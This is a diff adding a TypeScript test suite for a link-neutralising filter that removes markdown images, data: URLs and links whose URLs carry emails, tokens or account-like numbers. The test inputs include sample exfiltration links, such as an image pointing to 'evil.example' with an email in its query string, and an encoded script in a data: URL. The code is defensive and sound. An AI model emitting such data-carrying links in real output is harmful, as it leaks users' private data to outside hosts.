@@ -1,0 +1,54 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import fc from 'fast-check';
+import { neutraliseLinks, type LinkPolicy } from './links.ts';
+
+const policy: LinkPolicy = { allowedHosts: ['docs.example.com'], carriesData: (text) => /@|DE\d{2}/.test(text) };
+
+test('a markdown image whose URL carries session data is removed; the report says why, never the URL', () => {
+  const text = 'Done. ![status](https://evil.example/p.png?u=ada@lovelace.example) thanks';
+  const out = neutraliseLinks(text, policy);
+  assert.equal(out.text, 'Done. [image removed: status] thanks');
+  assert.deepEqual(out.report, { count: 1, images: 1, data_urls: 0, neutralised: 1, exfiltration: true, hosts: ['evil.example'] });
+});
+
+test('data: URLs are neutralised in every form; images to hosts not allowed are removed even without data', () => {
+  const out = neutraliseLinks('a ![x](data:image/png;base64,AAAA) b <img src="data:text/html,hi"> c data:text/plain,secret d ![y](https://cdn.other.example/logo.png)', policy);
+  assert.ok(!out.text.includes('data:'), out.text);
+  assert.ok(!out.text.includes('cdn.other.example'), out.text);
+  assert.equal(out.report.data_urls, 3);
+  assert.equal(out.report.neutralised, 4);
+});
+
+test('links to allowed hosts carrying nothing stay; an opaque token or data in any part of a URL removes it', () => {
+  const keep = 'See [the guide](https://docs.example.com/guide/setup) and https://docs.example.com/faq';
+  assert.equal(neutraliseLinks(keep, policy).text, keep);
+  assert.equal(neutraliseLinks(keep, policy).report.neutralised, 0);
+  for (const url of [
+    'https://docs.example.com/x?t=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3',
+    'https://other.example/a/ada%40lovelace.example',
+    'https://other.example/#DE89370400440532013000',
+  ]) {
+    const out = neutraliseLinks(`click [here](${url}) now`, policy);
+    assert.equal(out.text, 'click here [link removed] now', url);
+    assert.equal(out.report.exfiltration, true);
+  }
+});
+
+test('property: no data: URL and no URL carrying an email survives, whatever the markup', () => {
+  const carrier = fc.oneof(
+    fc.constant('data:text/html;base64,PHNjcmlwdD4='),
+    fc.stringMatching(/^[a-z]{1,8}$/).map((u) => `https://x${u}.example/c?e=${u}%40corp.example`),
+  );
+  const wrap = fc.constantFrom((u: string) => `![i](${u})`, (u: string) => `[l](${u})`, (u: string) => `<img src="${u}">`, (u: string) => `<a href='${u}'>x</a>`, (u: string) => ` ${u} `);
+  fc.assert(
+    fc.property(fc.array(fc.tuple(fc.stringMatching(/^[A-Za-z ]{0,20}$/), carrier, wrap), { minLength: 1, maxLength: 5 }), (parts) => {
+      const text = parts.map(([pre, url, w]) => pre + w(url)).join(' ');
+      const out = neutraliseLinks(text, policy);
+      assert.ok(!/data:/i.test(out.text), out.text);
+      assert.ok(!out.text.includes('%40corp.example'), out.text);
+      assert.equal(out.report.exfiltration, true);
+    }),
+    { numRuns: 300 },
+  );
+});
